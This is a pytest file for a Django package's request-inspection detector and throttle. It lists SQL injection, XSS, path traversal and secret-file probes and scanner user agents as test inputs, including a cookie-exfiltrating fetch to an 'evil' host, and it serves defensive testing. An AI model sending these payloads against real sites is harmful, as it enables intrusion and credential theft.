"""Unit tests for the security detection engine and its throttle. No database."""

import threading

import pytest
from django.core.exceptions import ImproperlyConfigured
from django.test import RequestFactory, override_settings

from pgaudit_django.security import DEFAULT_RULES, Throttle, inspect, load_rules
from pgaudit_django.security.rules import EXCERPT_LIMIT, MAX_INSPECT_CHARS, Rule

rf = RequestFactory()

GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
BINGBOT = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
)
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"
SAFARI_IOS = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1"
)


def _hits(url: str = "/", ua: str = CHROME, **meta: str) -> set[tuple[str, str]]:
    request = rf.get(url, HTTP_USER_AGENT=ua)
    request.META.update(meta)
    return {(f.rule, f.target) for f in inspect(request, DEFAULT_RULES)}


# --- every default rule hits its probes ------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "id=1%20UNION%20SELECT%20username,password%20FROM%20users",
        "id=1+union+all+select+1,2",
        "id=1/**/UnIoN/**/SeLeCt/**/1",
        "name=%27%20or%20%271%27%3D%271",
        "name='or''='",
        "id=1 or 1=1--",
        "id=1%20AND%20SLEEP(5)",
        "id=1;select pg_sleep(10)",
        "id=BENCHMARK(1000000,MD5(1))",
        "x=1 from information_schema.tables",
        "id=1;--",
        "user=admin'--",
        "q=;exec xp_cmdshell 'dir'",
        "id=1;WAITFOR DELAY '0:0:5'",
        "id=1;drop table users",
        "id=1%2527%2520or%25201%253D1",  # double-encoded ' or 1=1
    ],
)
def test_sql_injection_in_query(query: str) -> None:
    assert ("sql_injection", "query") in _hits(f"/search/?{query}")


def test_sql_injection_in_path_and_headers() -> None:
    assert ("sql_injection", "path") in _hits("/items/1%20union%20select%201/")
    assert ("sql_injection", "headers") in _hits(
        "/", HTTP_REFERER="https://example.com/?id=1' or '1'='1"
    )
    assert ("sql_injection", "user_agent") in _hits("/", ua="Mozilla' AND SLEEP(5)--")


@pytest.mark.parametrize(
    "query",
    [
        "q=%3Cscript%3Ealert(1)%3C/script%3E",
        "next=javascript:alert(1)",
        "next=JaVaScRiPt%3Aalert(1)",
        "q=<img src=x onerror=alert(1)>",
        "q=<body onload=alert(1)>",
        "q=%3Csvg/onload=alert(1)%3E",
        "q=<iframe src=//evil>",
        "q=fetch('//evil/?c='+document.cookie)",
        "q=%253Cscript%253E",  # double-encoded
    ],
)
def test_xss_in_query(query: str) -> None:
    assert ("xss", "query") in _hits(f"/search/?{query}")


@pytest.mark.parametrize(
    "url",
    [
        "/static/../../etc/passwd",
        "/static/..%2f..%2fsettings.py",
        "/static/%2e%2e/%2e%2e/secret",
        "/static/%252e%252e%252fsecret",  # double-encoded ../
        "/download/?file=../../app/settings.py",
        "/download/?file=..%5c..%5cboot.ini",
        "/download/?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
        "/download/?file=C:\\Windows\\system32",
        "/download/?f=/etc/passwd",
    ],
)
def test_path_traversal(url: str) -> None:
    hits = _hits(url)
    assert ("path_traversal", "path") in hits or ("path_traversal", "query") in hits


@pytest.mark.parametrize(
    "url",
    [
        "/.env",
        "/.env.production",
        "/.git/config",
        "/.git",
        "/.svn/entries",
        "/wp-admin/",
        "/wp-login.php",
        "/phpmyadmin/index.php",
        "/phpMyAdmin/",
        "/.aws/credentials",
        "/config.php",
        "/.DS_Store",
        "/server-status",
        "/blog/.env",
        "/%2eenv",
    ],
)
def test_secret_file(url: str) -> None:
    assert ("secret_file", "path") in _hits(url)


@pytest.mark.parametrize(
    "ua",
    [
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Mozilla/5.0 zgrab/0.x",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
        "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
        "gobuster/3.6",
        "Acunetix Web Vulnerability Scanner",
        "Netsparker",
    ],
)
def test_scanner_user_agent(ua: str) -> None:
    request = rf.get("/", HTTP_USER_AGENT=ua)
    found = [f for f in inspect(request, DEFAULT_RULES) if f.rule == "scanner_user_agent"]
    assert len(found) == 1
    assert found[0].severity == "medium"
    assert found[0].target == "user_agent"


@pytest.mark.parametrize("ua", ["curl/8.4.0", "Wget/1.21.4"])
def test_cli_user_agent_is_low(ua: str) -> None:
    findings = inspect(rf.get("/", HTTP_USER_AGENT=ua), DEFAULT_RULES)
    assert [(f.rule, f.severity) for f in findings] == [("cli_user_agent", "low")]


# --- things that must stay quiet -------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "/admin/",
        "/admin/login/?next=/admin/",
        "/admin/shop/order/",
        "/admin/shop/order/?q=o%27brien&o=1.2&status__exact=paid",
        "/admin/shop/order/?q=O%27Reilly+%26+sons&o=-3&p=2",
        "/admin/shop/order/?created__gte=2024-01-01&created__lt=2024-02-01&o=1.-2",
        "/admin/shop/order/?_changelist_filters=status__exact%3Dpaid%26q%3Do%2527brien",
        "/admin/shop/order/42/change/?_changelist_filters=o%3D1.2",
        "/admin/shop/order/42/delete/",
        "/admin/shop/order/42/history/",
        "/admin/auth/user/1/password/",
        "/admin/jsi18n/",
        "/admin/r/12/3/",
        "/admin/autocomplete/?term=sel&app_label=shop&model_name=order&field_name=customer",
        "/static/admin/js/actions.js",
        "/posts/javascript-tips/",
        "/posts/scripting-in-python/",
        "/posts/why-union-types-matter/",
        "/search/?q=select",
        "/search/?q=union",
        "/search/?q=select+a+plan+from+the+list",
        "/search/?q=union+station",
        "/search/?q=rock+%27n%27+roll",
        "/search/?q=sleep+well",
        "/search/?q=1..10&sort=-created",
        "/files/report..final.pdf",
        "/.well-known/security.txt",
        "/.github/",
        "/environment/",
        "/api/v1/items/?page=2&page_size=50&ordering=-id",
        "/search/?q=c%2B%2B+%26+rust&lang=en-GB",
    ],
)
@pytest.mark.parametrize("ua", [CHROME, FIREFOX, SAFARI_IOS, GOOGLEBOT, BINGBOT])
def test_ordinary_requests_are_not_flagged(url: str, ua: str) -> None:
    assert (
        _hits(url, ua=ua, HTTP_REFERER="https://example.com/admin/shop/order/?q=o%27brien") == set()
    )


def test_python_requests_user_agent_is_not_flagged() -> None:
    assert _hits("/api/", ua="python-requests/2.31.0") == set()


# --- shape and bounds of findings ------------------------------------------------------------


def test_finding_excerpt_is_short_and_clean() -> None:
    query = "q=" + "a" * 300 + "%00<script>alert(1)</script>" + "b" * 5000
    (finding,) = [f for f in inspect(rf.get(f"/s/?{query}"), DEFAULT_RULES) if f.rule == "xss"]
    assert finding.target == "query"
    assert len(finding.excerpt) <= EXCERPT_LIMIT
    assert "<script>" in finding.excerpt
    assert "\x00" not in finding.excerpt


def test_only_a_prefix_of_huge_values_is_inspected() -> None:
    # A probe beyond the inspection window is not seen; work stays bounded.
    query = "q=" + "a" * (MAX_INSPECT_CHARS + 10) + "<script>"
    assert _hits(f"/s/?{query}") == set()
    assert ("xss", "user_agent") not in _hits("/", ua="a" * 10_000_000 + "<script>")


def test_body_is_never_read() -> None:
    request = rf.post("/s/", data="<script>alert(1)</script>", content_type="text/plain")
    assert inspect(request, DEFAULT_RULES) == []
    assert not request._read_started  # type: ignore[attr-defined]


def test_explicit_rules_argument() -> None:
    rule = Rule.build("only_this", r"needle", ["path"], "low")
    findings = inspect(rf.get("/x/needle/", HTTP_USER_AGENT="curl/8"), [rule])
    assert [(f.rule, f.target) for f in findings] == [("only_this", "path")]


# --- configuration --------------------------------------------------------------------------


def test_defaults_when_unset() -> None:
    names = {rule.name for rule in load_rules()}
    assert {
        "sql_injection",
        "xss",
        "path_traversal",
        "secret_file",
        "scanner_user_agent",
        "cli_user_agent",
    } <= names


@override_settings(
    AUDIT_SECURITY_RULES=[
        {
            "name": "internal_probe",
            "pattern": r"/INTERNAL/",
            "targets": ["path"],
            "severity": "high",
        }
    ],
    AUDIT_SECURITY_DISABLED_RULES=["cli_user_agent"],
)
def test_custom_rules_added_and_disabled_rules_dropped() -> None:
    names = [rule.name for rule in load_rules()]
    assert "internal_probe" in names
    assert "cli_user_agent" not in names
    assert "sql_injection" in names
    findings = inspect(rf.get("/internal/x", HTTP_USER_AGENT="curl/8.0"))
    assert [(f.rule, f.severity) for f in findings] == [("internal_probe", "high")]


@override_settings(
    AUDIT_SECURITY_RULES=[
        {"name": "secret_file", "pattern": r"/\.env\b", "targets": ["path"], "severity": "low"}
    ]
)
def test_custom_rule_with_default_name_replaces_it() -> None:
    (rule,) = [r for r in load_rules() if r.name == "secret_file"]
    assert rule.severity == "low"
    assert [f.rule for f in inspect(rf.get("/wp-login.php"))] == []
    assert [(f.rule, f.severity) for f in inspect(rf.get("/.env"))] == [("secret_file", "low")]


def test_cache_follows_setting_changes() -> None:
    assert any(rule.name == "xss" for rule in load_rules())
    with override_settings(AUDIT_SECURITY_DISABLED_RULES=["xss"]):
        assert all(rule.name != "xss" for rule in load_rules())
    assert any(rule.name == "xss" for rule in load_rules())


GOOD = {"name": "ok", "pattern": "x", "targets": ["path"], "severity": "low"}


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"AUDIT_SECURITY_RULES": [{**GOOD, "pattern": "(unclosed"}]}, "regular expression"),
        ({"AUDIT_SECURITY_RULES": [{**GOOD, "targets": ["body"]}]}, "targets"),
        ({"AUDIT_SECURITY_RULES": [{**GOOD, "targets": "path"}]}, "targets"),
        ({"AUDIT_SECURITY_RULES": [{**GOOD, "targets": []}]}, "targets"),
        ({"AUDIT_SECURITY_RULES": [{**GOOD, "severity": "critical"}]}, "severity"),
        ({"AUDIT_SECURITY_RULES": [{**GOOD, "name": "has space"}]}, "name"),
        ({"AUDIT_SECURITY_RULES": [{**GOOD, "pattern": ""}]}, "pattern"),
        ({"AUDIT_SECURITY_RULES": [{"name": "x", "pattern": "x"}]}, "missing"),
        ({"AUDIT_SECURITY_RULES": [{**GOOD, "target": ["path"]}]}, "unknown"),
        ({"AUDIT_SECURITY_RULES": [GOOD, GOOD]}, "twice"),
        ({"AUDIT_SECURITY_RULES": ["not a dict"]}, "dict"),
        ({"AUDIT_SECURITY_RULES": GOOD}, "list"),
        ({"AUDIT_SECURITY_DISABLED_RULES": ["sql_injecton"]}, "unknown rules"),
        ({"AUDIT_SECURITY_DISABLED_RULES": "xss"}, "list"),
    ],
)
def test_bad_config_raises(overrides: dict[str, object], message: str) -> None:
    with override_settings(**overrides), pytest.raises(ImproperlyConfigured, match=message):
        load_rules()


# --- throttle -------------------------------------------------------------------------------


class FakeClock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


KEY = ("198.51.100.7", "sql_injection")


def test_throttle_suppresses_within_window_and_reports_count() -> None:
    clock = FakeClock()
    throttle = Throttle(60, clock=clock)
    assert throttle.allow(KEY) == (True, 0)
    for expected in (1, 2, 3):
        clock.now += 10
        assert throttle.allow(KEY) == (False, expected)
    clock.now += 31  # 61 s after the written row
    assert throttle.allow(KEY) == (True, 3)
    assert throttle.allow(KEY) == (False, 1)


def test_throttle_keys_are_independent() -> None:
    throttle = Throttle(60, clock=FakeClock())
    assert throttle.allow(KEY) == (True, 0)
    assert throttle.allow(("198.51.100.7", "xss")) == (True, 0)
    assert throttle.allow(("198.51.100.8", "sql_injection")) == (True, 0)
    assert throttle.allow(KEY) == (False, 1)


def test_throttle_window_zero_disables() -> None:
    throttle = Throttle(0, clock=FakeClock())
    assert [throttle.allow(KEY) for _ in range(3)] == [(True, 0)] * 3


def test_throttle_key_cap_holds() -> None:
    throttle = Throttle(60, max_keys=100, clock=FakeClock())
    for i in range(1000):
        throttle.allow((f"10.0.{i // 256}.{i % 256}", "xss"))
    assert len(throttle._entries) == 100
    # The oldest keys were evicted, so they are allowed again; recent ones are not.
    assert throttle.allow(("10.0.0.0", "xss"))[0] is True
    assert throttle.allow(("10.0.3.231", "xss"))[0] is False


def test_throttle_is_thread_safe() -> None:
    throttle = Throttle(60, clock=FakeClock())
    results: list[tuple[bool, int]] = []
    lock = threading.Lock()

    def hit() -> None:
        for _ in range(200):
            outcome = throttle.allow(KEY)
            with lock:
                results.append(outcome)

    threads = [threading.Thread(target=hit) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sum(allowed for allowed, _ in results) == 1
    assert sorted(n for allowed, n in results if not allowed) == list(range(1, 1600))


@override_settings(AUDIT_SECURITY_THROTTLE=30, AUDIT_SECURITY_THROTTLE_CACHE=None)
def test_throttle_from_settings() -> None:
    throttle = Throttle.from_settings()
    assert throttle.window == 30
    assert throttle.cache_alias is None


@override_settings(AUDIT_SECURITY_THROTTLE=None)
def test_throttle_setting_none_disables() -> None:
    assert Throttle.from_settings().window == 0


@pytest.mark.parametrize(
    "overrides",
    [
        {"AUDIT_SECURITY_THROTTLE": -1},
        {"AUDIT_SECURITY_THROTTLE": "60"},
        {"AUDIT_SECURITY_THROTTLE_CACHE": "nope"},
    ],
)
def test_throttle_bad_settings_raise(overrides: dict[str, object]) -> None:
    with override_settings(**overrides), pytest.raises(ImproperlyConfigured):
        Throttle.from_settings()


@override_settings(
    CACHES={
        "default": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache"},
        "audit": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache", "LOCATION": "t"},
    },
    AUDIT_SECURITY_THROTTLE_CACHE="audit",
)
def test_throttle_shared_through_cache() -> None:
    first, second = Throttle.from_settings(), Throttle.from_settings()  # two "processes"
    assert first.allow(KEY) == (True, 0)
    assert second.allow(KEY) == (False, 1)
    assert first.allow(KEY) == (False, 2)
    assert second.allow(("203.0.113.1", "xss")) == (True, 0)
    assert first._entries == {}  # state lives in the cache, not the process
